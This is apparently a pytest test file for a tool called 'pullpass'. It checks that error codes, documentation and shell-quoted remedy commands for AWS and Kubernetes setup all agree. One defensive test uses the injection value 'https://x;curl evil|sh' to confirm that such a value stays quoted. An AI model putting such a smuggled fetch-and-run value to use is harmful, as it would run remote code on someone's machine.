from __future__ import annotations

import json
import re
import shlex
import string
from pathlib import Path

import pytest

from schemas.issue_kinds import IssueKind
from schemas.issues import KINDS, VALUES, issue
from web.presentation import remedy_parts

# Every code that the controller and the agent may speak in.
CODES = [
    "ConnectionMissing",
    "ClusterUnreachable",
    "CredentialRefused",
    "ConnectionExpiring",
    "RightsMissing",
    "AlreadyManaged",
    "KubernetesTooOld",
    "ApplyRefused",
    "HubIdentityMissing",
    "HubAwsUnreachable",
    "DeployRoleRefused",
    "DeployRoleOpen",
    "EksAccessDenied",
    "EksClusterNotFound",
    "EksNoAccessEntry",
    "EksRightsMissing",
    "EksIssuerDiffers",
    "IssuerNotUsable",
    "IssuerNotSwitched",
    "IssuerKeysChanged",
    "PublicUrlMissing",
    "RoleArnMissing",
    "RegistriesUnknown",
    "TrustPolicyTooLong",
    "AgentNotRunning",
    "AgentNotReporting",
    "OidcProviderMissing",
    "AudienceNotAllowed",
    "AudienceAmbiguous",
    "VerificationKeyUnavailable",
    "TrustPolicyMismatch",
    "TokenExpired",
    "IdentityProviderUnreachable",
    "ClaimRejected",
    "StsRegionDisabled",
    "StsUnreachable",
    "StsRefused",
    "EcrAccessDenied",
    "EcrUnreachable",
    "EcrRefused",
    "RegistryAccessDenied",
    "RegistryUnreachable",
    "ImageNotFound",
    "IamProviderDiffers",
    "IamTrustDiffers",
    "IamPermissionsDiffer",
    "RegistryPolicyDiffers",
    "SecretNotOurs",
    "NamespaceWriteRefused",
    "TokenUnreadable",
    "NodeUnsupported",
    "NodeRefused",
    "NodeRolledBack",
    "NodeWaiting",
    "NodesLate",
    "NodeFailed",
    "NodeRoleMayNotPull",
    "PluginFailed",
    "NodesNotCleaned",
    "KubernetesTooOldForServiceAccounts",
    "PullSecretClash",
    "KeysMissing",
    "KeysRefused",
    "MetadataUnavailable",
    "AssumeRoleRefused",
    "PublicRefused",
    "WebhookNotServing",
    "AdoptedResourceMissing",
    "CustomResourceRefused",
]

PAGE = Path(__file__).parents[3] / "docs" / "reference" / "issues.md"
VALUES_OF_DEMO = {
    "CLUSTER": "demo",
    "ORG": "acme",
    "ISSUER": "https://oidc.example.com/x",
    "ISSUER_HOST": "oidc.example.com/x",
    "AUDIENCE": "sts.amazonaws.com",
    "ROLE_ARN": "arn:aws-cn:iam::123456789012:role/pull",
    "ROLE_NAME": "pull",
    "PARTITION": "aws-cn",
    "ACCOUNT": "123456789012",
    "MESSAGE": "AccessDenied: Not authorized",
    "EKS_CLUSTER": "prod",
    "REGION": "eu-central-1",
    "DEPLOY_ROLE": "arn:aws:iam::210987654321:role/teams/deploy",
    "DEPLOY_ROLE_NAME": "deploy",
    "HUB_PRINCIPAL": "arn:aws:iam::111111111111:role/hub",
    "EXTERNAL_ID": "pullpass-abc",
}


def test_the_codes_are_the_agreed_ones() -> None:
    assert set(KINDS) == set(CODES)


def test_every_code_has_a_section_in_the_documentation() -> None:
    sections = re.findall(r"^## ([A-Z]\w+)$", PAGE.read_text(encoding="utf-8"), re.MULTILINE)
    assert sorted(sections) == sorted(KINDS)


def named(kind: IssueKind) -> set[str]:
    templates = (kind.message, kind.remedy, kind.of_other_role)
    parts = [part for template in templates for part in string.Formatter().parse(template)]
    assert not any(form or conversion for _, _, form, conversion in parts)
    return {name for _, name, _, _ in parts if name is not None}


@pytest.mark.parametrize("kind", KINDS.values(), ids=list(KINDS))
def test_a_template_names_known_values_only(kind: IssueKind) -> None:
    assert named(kind) <= VALUES.keys()


def test_every_known_value_is_explained_and_used() -> None:
    assert all(VALUES.values())
    assert set().union(*map(named, KINDS.values())) == VALUES.keys()


@pytest.mark.parametrize("code", CODES)
def test_an_issue_with_all_values_leaves_no_placeholder(code: str) -> None:
    found = issue(code, dict.fromkeys(VALUES, "x"), resources=("Namespace/shop",))
    assert "${" not in found.message + found.remedy
    assert (found.code, found.resources) == (code, ("Namespace/shop",))
    assert "\n" not in found.message + found.remedy


@pytest.mark.parametrize(
    ("code", "remedy"),
    [
        ("ConnectionMissing", "pullpass connect demo --org acme --context CONTEXT"),
        (
            "IssuerNotUsable",
            (
                "Let the hub publish the issuer (PULLPASS_PUBLIC_URL must be an https:// URL without a port):"
                " pullpass addons enable demo awsWorkloadIdentity --org acme --issuer published"
            ),
        ),
        *(
            (code, "With credentials for account 123456789012: pullpass aws setup demo --org acme")
            for code in (
                "OidcProviderMissing",
                "AudienceNotAllowed",
                "TrustPolicyMismatch",
                "EcrAccessDenied",
            )
        ),
        (
            "EksNoAccessEntry",
            (
                "In the cluster's account: aws eks create-access-entry --cluster-name prod --region eu-central-1"
                " --principal-arn arn:aws:iam::210987654321:role/teams/deploy --kubernetes-groups pullpass-hub"
            ),
        ),
    ],
)
def test_a_remedy_is_the_exact_command(code: str, remedy: str) -> None:
    assert issue(code, VALUES_OF_DEMO).remedy == remedy


@pytest.mark.parametrize(
    ("code", "remedy"),
    [
        (
            "OidcProviderMissing",
            (
                "In account 123456789012: aws iam create-open-id-connect-provider"
                " --url https://oidc.example.com/x --client-id-list sts.amazonaws.com"
            ),
        ),
        (
            "AudienceNotAllowed",
            (
                "In account 123456789012: aws iam add-client-id-to-open-id-connect-provider --open-id-connect-provider-arn"
                " arn:aws-cn:iam::123456789012:oidc-provider/oidc.example.com/x --client-id sts.amazonaws.com"
            ),
        ),
        (
            "TrustPolicyMismatch",
            (
                "Add the statement that this prints to the trust policy of arn:aws-cn:iam::123456789012:role/pull, with the"
                " provider of account 123456789012: pullpass trust-policy demo --org acme --only"
            ),
        ),
        (
            "EcrAccessDenied",
            (
                "aws iam attach-role-policy --role-name pull"
                " --policy-arn arn:aws-cn:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly"
            ),
        ),
        ("ConnectionMissing", "pullpass connect demo --org acme --context CONTEXT"),
    ],
)
def test_a_role_that_setup_does_not_look_after_is_mended_by_hand(code: str, remedy: str) -> None:
    assert issue(code, VALUES_OF_DEMO, other_role=True).remedy == remedy


PROGRAMS = {"aws", "curl", "kubectl", "pullpass"}


@pytest.mark.parametrize("other_role", [False, True])
@pytest.mark.parametrize("code", CODES)
def test_a_remedy_ends_with_its_command_which_a_shell_reads(code: str, other_role: bool) -> None:
    remedy = issue(code, dict.fromkeys(VALUES, "x"), other_role=other_role).remedy
    found = remedy_parts(remedy)
    assert found["words"] or found["command"]
    words = shlex.split(found["command"])
    simple = [index + 1 for index, word in enumerate(words) if word in {"&&", "|"}]
    assert {words[index] for index in ([0, *simple] if words else [])} <= PROGRAMS
    assert not [word for word in words if word.endswith((",", ".", ";"))]


@pytest.mark.parametrize("code", CODES)
def test_no_remedy_speaks_to_the_hub_past_the_command_line(code: str) -> None:
    assert "PULLPASS_TOKEN" not in KINDS[code].remedy + KINDS[code].of_other_role


@pytest.mark.parametrize("code", ["DeployRoleRefused", "DeployRoleOpen"])
def test_the_statement_for_a_deploy_role_is_what_a_shell_hands_to_aws(code: str) -> None:
    command = issue(code, VALUES_OF_DEMO).remedy.partition("aws iam ")[2]
    *_, document = shlex.split(command)
    assert json.loads(document)["Statement"] == [
        {
            "Effect": "Allow",
            "Action": "sts:AssumeRole",
            "Principal": {"AWS": "arn:aws:iam::111111111111:role/hub"},
            "Condition": {"StringEquals": {"sts:ExternalId": "pullpass-abc"}},
        }
    ]


def test_the_message_carries_the_words_of_whoever_refused() -> None:
    assert issue("StsRefused", VALUES_OF_DEMO).message == (
        "STS refuses to let the cluster assume arn:aws-cn:iam::123456789012:role/pull."
        " AWS says: AccessDenied: Not authorized"
    )


def test_the_flags_of_a_published_issuer_stand_as_they_are() -> None:
    flags = "--service-account-issuer=https://a --service-account-issuer=https://b"
    assert issue("IssuerNotSwitched", {"FLAGS": flags}).remedy.endswith(f"restart it: {flags}")


@pytest.mark.parametrize("values", [{}, {"ACCOUNT": "", "ISSUER": ""}])
def test_a_missing_value_stays_for_the_user_to_fill_in(values: dict[str, str]) -> None:
    assert issue("OidcProviderMissing", values, other_role=True).remedy == (
        "In account ${AWS_ACCOUNT_ID}: aws iam create-open-id-connect-provider"
        " --url ${ISSUER} --client-id-list ${AUDIENCE}"
    )


def test_a_value_cannot_smuggle_a_command_into_a_remedy() -> None:
    values = {**VALUES_OF_DEMO, "ISSUER": "https://x;curl evil|sh"}
    found = issue("OidcProviderMissing", values, other_role=True)
    assert "--url 'https://x;curl evil|sh' " in found.remedy


def test_a_value_goes_on_one_line_of_readable_length() -> None:
    found = issue("StsRefused", {**VALUES_OF_DEMO, "MESSAGE": "a\n b" + "x" * 5000})
    assert "a b" in found.message
    assert len(found.message) < 1200


def test_a_value_is_never_a_template() -> None:
    assert "{CLUSTER}" in issue("StsRefused", {**VALUES_OF_DEMO, "MESSAGE": "{CLUSTER}"}).message


def test_there_is_no_issue_without_a_kind() -> None:
    with pytest.raises(KeyError):
        issue("SomethingWrong", {})
